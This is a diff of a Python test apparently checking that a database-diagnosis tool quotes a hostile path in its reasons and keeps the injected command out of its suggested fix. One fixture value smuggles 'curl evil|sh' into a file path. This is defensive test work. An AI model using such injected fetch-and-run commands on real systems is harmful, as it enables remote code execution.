@@ -98,7 +98,7 @@ def test_a_name_that_looks_like_advice_is_in_quotes_and_a_word_of_the_command() 
     hostile = "/srv/fb/a; curl evil|sh #.fdb"
     result = found(database(path=hostile, running="off", persisted="off", in_use="yes"))
     said = [each for each in result["reasons"] if hostile in each["reason"]]
-    assert {each["id"] for each in said} == {"risk.engine_setting", "setting.firebird.forced_writes"}
+    assert [each["id"] for each in said] == ["risk.engine_setting"]
     for each in said:
         assert f'"{hostile}"' in each["reason"]
         assert "curl" not in each["fix"].replace(f"'localhost:{hostile}'", "").replace(f"'{hostile}'", "")
